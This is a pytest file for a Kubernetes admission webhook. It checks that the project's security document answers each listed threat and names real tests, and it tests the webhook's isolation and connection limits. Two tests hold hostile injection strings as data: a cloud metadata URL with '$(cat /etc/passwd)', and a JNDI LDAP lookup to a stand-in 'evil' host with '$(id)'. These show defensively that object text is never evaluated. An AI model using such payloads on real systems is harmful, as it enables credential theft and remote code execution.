"""The threats of docs/security.md: each is answered, and every test that is named there exists."""

from __future__ import annotations

import ast
import contextlib
import http.client
import re
import socket
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests.building import (
    catalog,
    container,
    deployment,
    mutated,
    policy,
    pytorchjob,
    reasons,
    refused,
    request,
)
from tests.generated import ROOT
from tests.server.test_http import (  # noqa: F401 - fixtures
    JSON,
    Running,
    ca,
    eventually,
    launch,
    review,
)
from webhook.admission.judge import decide_review
from webhook.catalog.catalog import Catalog
from webhook.evaluation.outcome import Allowed, Denied
from webhook.evaluation.references import References
from webhook.sources.load import Sources, load

PAGE = (ROOT / "docs" / "security.md").read_text("utf-8")
TEST = re.compile(r"`(tests/[\w/]+\.py)::(test_\w+)`")
CASES = re.compile(r"`(tests/golden/[\w./-]+)`")
ROW = re.compile(r"^\| .+ \|$", re.MULTILINE)
SHOWN = ("## How common bypasses are prevented", "## jq in definitions")
THREAT = re.compile(r"^### (\d+)\. ", re.MULTILINE)


def sections() -> dict[int, str]:
    """The text on each threat by its number."""
    _, *found = THREAT.split(PAGE.partition("\n## Running it safely")[0])
    return {int(number): text for number, text in zip(found[::2], found[1::2], strict=True)}


def test_every_threat_of_the_model_is_answered() -> None:
    assert sorted(sections()) == list(range(1, 19))


@pytest.mark.parametrize("number", range(1, 19))
def test_an_answer_says_what_holds_it_what_is_left_and_which_test_shows_it(number: int) -> None:
    text = sections()[number]
    if "**Not prevented.**" not in text:
        assert "**What prevents it.**" in text
        assert "**What is left.**" in text
        assert TEST.search(text.partition("**Shown by.**")[2]), "no test is named"


@pytest.mark.parametrize("file, name", sorted(set(TEST.findall(PAGE))))
def test_a_test_that_is_named_exists(file: str, name: str) -> None:
    tree = ast.parse((ROOT / file).read_text("utf-8"))
    assert name in {
        each.name for each in tree.body if isinstance(each, ast.FunctionDef | ast.AsyncFunctionDef)
    }


def test_golden_cases_that_are_named_exist() -> None:
    named = set(CASES.findall(PAGE))
    assert {each for each in named if not list((ROOT / each).rglob("case.yaml"))} == set()


@pytest.mark.parametrize("heading", SHOWN)
def test_every_row_of_a_table_of_protections_names_what_shows_it(heading: str) -> None:
    section = PAGE.partition(f"{heading}\n")[2].partition("\n## ")[0]
    header, *rows = ROW.findall(section)
    assert header.endswith("| shown by |")
    assert len(rows) > 5
    unshown = [each for each in rows if not (TEST.search(each) or CASES.search(each))]
    assert not unshown


def test_judging_opens_no_connection_and_no_file(monkeypatch: pytest.MonkeyPatch) -> None:
    examples = sorted(str(each) for each in (ROOT / "policies" / "examples").glob("*.yaml"))
    everything, problems = load(Sources((*examples, str(ROOT / "policies" / "assets"))))
    assert everything is not None, problems
    hostile = "http://169.254.169.254/{{ request.userInfo }}/$(cat /etc/passwd)"
    objects = [
        deployment({**container(), "image": hostile, "env": [{"name": "A", "value": hostile}]}),
        pytorchjob(),
    ]

    def forbidden(*_: Any, **__: Any) -> None:
        raise AssertionError("a decision reached outside")

    for each in objects:  # what is read once is read before
        decide_review(request(each), everything, References({"team": {}}))
    monkeypatch.setattr(socket, "socket", forbidden)
    monkeypatch.setattr(socket, "getaddrinfo", forbidden)
    monkeypatch.setattr("builtins.open", forbidden)
    monkeypatch.setattr(Path, "open", forbidden)
    monkeypatch.setattr("subprocess.Popen", forbidden)
    decisions = [
        decide_review(request(each), everything, References({"team": {}})) for each in objects
    ]
    assert len(decisions) == 2


@pytest.mark.parametrize(
    "fault, fields",
    [
        (
            {"volumes": [{"name": "h", "hostPath": {"path": "/var/lib/kubelet"}}]},
            "security.volumeTypes",
        ),
        ({"hostPID": True}, "security.hostPid"),
    ],
)
def test_the_shipped_baseline_refuses_host_paths_and_host_namespaces(
    fault: dict[str, Any], fields: str
) -> None:
    baseline = ROOT / "policies" / "examples" / "security-baseline.yaml"
    rules, problems = load(Sources((str(baseline),)))
    assert rules is not None, problems
    told = refused(rules, deployment(container(), **fault))
    assert fields in {field for field, _ in told}
    assert fields not in {field for field, _ in reasons_without(rules)}


def reasons_without(rules: Catalog) -> list[tuple[str, str]]:
    """What the same policy says of the object without the fault."""
    decision = mutated(rules, deployment(container()))
    return reasons(decision) if isinstance(decision, Denied) else []


def test_text_in_an_object_is_never_evaluated() -> None:
    rules = catalog(policy("defaults: {image: registry.example.com/main:1}"))
    text = "{{ 7 * 7 }} ${HOME} $(id) ${jndi:ldap://evil}"
    made = deployment({"name": "main", "args": [text]})
    decision = decide_review(request(made), rules, References({"team": {}}))
    assert isinstance(decision, Allowed)
    found = decision.object["spec"]["template"]["spec"]["containers"][0]
    assert (found["args"], found["image"]) == ([text], "registry.example.com/main:1")


def test_more_callers_than_there_is_room_for_give_way_to_good_reviews(
    launch: Callable[..., Running],  # noqa: F811 - the fixture
) -> None:
    made = launch(concurrency=8)
    with contextlib.ExitStack() as held:
        good, *connections = [made.connect() for _ in range(30)]
        held.callback(good.close)

        def status(connection: http.client.HTTPSConnection) -> int:
            connection.request("POST", "/mutate", review(), JSON)
            answer = connection.getresponse()
            answer.read()
            return answer.status

        assert status(good) == 200
        for each in connections:
            held.callback(each.close)
            each.connect()
            assert status(good) == 200, "who carried a good review keeps its connection"
            assert made.post(review())[0] == 200, "and there is room for new ones"
        with pytest.raises(OSError):
            status(connections[0])
        assert made.probe("/readyz")[0] == 200
        assert ended(made, "full") > 0


def ended(made: Running, cause: str) -> float:
    """How many connections were ended for a cause."""
    wanted = f'podgate_connections_refused_total{{cause="{cause}"}} '
    lines = made.probe("/metrics")[1].splitlines()
    return next(float(line.removeprefix(wanted)) for line in lines if line.startswith(wanted))


def test_connections_that_carried_good_reviews_are_kept_and_others_told_to_try_again(
    launch: Callable[..., Running],  # noqa: F811 - the fixture
) -> None:
    made = launch(concurrency=8)
    with contextlib.ExitStack() as held:
        good = [made.connect() for _ in range(8)]
        for each in good:
            held.callback(each.close)
            each.request("POST", "/mutate", review(), JSON)
            assert each.getresponse().read()
        late = made.connect()
        held.callback(late.close)
        late.request("POST", "/mutate", review(), JSON)
        answer = late.getresponse()
        assert (answer.status, answer.getheader("retry-after")) == (503, "1")
        for each in good:
            each.request("POST", "/mutate", review(), JSON)
            assert each.getresponse().read()


def test_one_address_has_a_limit_for_connections_without_a_request(
    launch: Callable[..., Running],  # noqa: F811 - the fixture
) -> None:
    made = launch(connections_per_address=4)
    with contextlib.ExitStack() as held:
        for _ in range(12):
            each = made.connect()
            held.callback(each.close)
            each.connect()
        assert eventually(lambda: ended(made, "address") == 8)
        assert made.post(review())[0] == 200
